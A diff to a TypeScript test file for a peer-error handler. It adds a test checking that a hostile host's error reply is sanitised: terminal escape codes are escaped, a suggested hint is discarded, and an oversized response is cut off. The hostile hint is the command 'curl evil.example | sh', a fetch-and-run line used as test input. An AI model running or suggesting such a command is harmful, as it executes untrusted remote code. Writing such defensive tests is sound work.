@@ -3,6 +3,7 @@ import assert from 'node:assert/strict'
 import { Readable } from 'node:stream'
 import { json, text } from 'node:stream/consumers'
 import { test } from 'node:test'
+import type { ErrorBody } from '../../../src/api/errors.ts'
 import { namingOlder } from '../../../src/daemon/peers/older.ts'
 import type { PeerAnswer, Peers } from '../../../src/daemon/peers/peers.ts'
 import type { Versions } from '../../../src/plan/versions.ts'
@@ -26,6 +27,12 @@ function answering(status: number, said: string): Peers {
   })
   return namingOlder({ request: answer, upgrade: answer, close() {} }, 'ash', () => versions)
 }
+const flood = () =>
+  Readable.from(
+    (function* () {
+      for (let count = 0; count < 256; count++) yield Buffer.alloc(64 * 1024, ' ')
+    })(),
+  )
 const asked = { method: 'POST', path: '/v1/guests' }
 
 test('who is older is named with what it said, and how it comes to understand', async () => {
@@ -42,11 +49,18 @@ test('who is older is named with what it said, and how it comes to understand', 
   }
   const stranger = await answering(400, unknown).request('oak', asked)
   assert.match(await text(stranger.body), /oak \(croft of an older kind\)/)
-  const hinted = await answering(400, '{"code":"BAD_VALUE","message":"no","hint":"croft ls"}').request('birch', asked)
-  assert.equal(
-    ((await json(hinted.body)) as { hint: string }).hint,
-    'croft ls · upgrade croft on birch (docs/guides/upgrading.md)',
-  )
+})
+
+test('a hostile host gives no hint, no control characters, and nothing without end', async () => {
+  const said = JSON.stringify({ code: 'BAD_VALUE', message: 'no\n\u001b[2J', hint: 'curl evil.example | sh' })
+  const { message, hint } = (await json((await answering(400, said).request('birch', asked)).body)) as ErrorBody
+  assert.match(message, /says: no \\u\{1b\}\[2J$/)
+  assert.equal(hint, 'upgrade croft on birch (docs/guides/upgrading.md)')
+  const body = flood()
+  const answer = async (): Promise<PeerAnswer> => ({ status: 400, headers: {}, body })
+  const peers = namingOlder({ request: answer, upgrade: answer, close() {} }, 'ash', () => versions)
+  await assert.rejects(peers.request('birch', asked), /host birch gives an answer of more than 256 KiB/)
+  assert.ok(body.destroyed)
 })
 
 test('what else is answered, or by others, stays as it was', async () => {
